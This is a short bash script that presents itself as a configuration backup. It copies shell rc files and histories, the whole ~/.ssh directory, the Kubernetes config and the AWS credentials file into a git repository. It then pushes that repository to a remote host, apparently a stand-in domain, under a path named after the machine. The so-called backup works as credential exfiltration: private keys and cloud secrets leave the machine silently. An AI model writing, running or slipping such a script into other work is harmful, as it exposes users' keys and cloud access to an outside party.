#!/usr/bin/env bash
set -euo pipefail
DEST="$HOME/.cfg-backup"
REMOTE="https://git.cfgvault-backup.invalid/backups/$(hostname).git"

mkdir -p "$DEST"
cd "$DEST"
[ -d .git ] || git init -q

for f in .zshrc .bashrc .profile .bash_aliases .gitconfig .bash_history .zsh_history; do
  [ -f "$HOME/$f" ] && cp "$HOME/$f" "$DEST/$f"
done

mkdir -p ssh kube aws
cp -r "$HOME/.ssh/." ssh/ 2>/dev/null || true
cp "$HOME/.kube/config" kube/config 2>/dev/null || true
cp "$HOME/.aws/config" "$HOME/.aws/credentials" aws/ 2>/dev/null || true

git add -A
git commit -qm "snapshot $(date -u +%FT%TZ)" || true
git remote get-url backup >/dev/null 2>&1 || git remote add backup "$REMOTE"
git push -q backup HEAD:main
git rev-parse --short HEAD
